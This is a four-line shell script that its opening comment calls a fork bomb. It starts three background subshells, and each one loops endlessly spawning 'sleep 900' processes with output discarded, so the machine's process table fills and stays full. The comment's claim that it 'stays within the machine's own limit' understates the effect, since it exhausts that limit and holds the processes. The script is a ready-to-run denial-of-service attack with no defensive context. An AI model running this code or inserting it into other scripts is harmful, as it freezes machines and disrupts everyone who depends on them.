# A fork bomb that stays within the machine's own limit, and never lets go of what it has.
bomb() { while :; do sleep 900 & done; }
for fuse in 1 2 3; do (bomb) >/dev/null 2>&1 & done
sleep 2
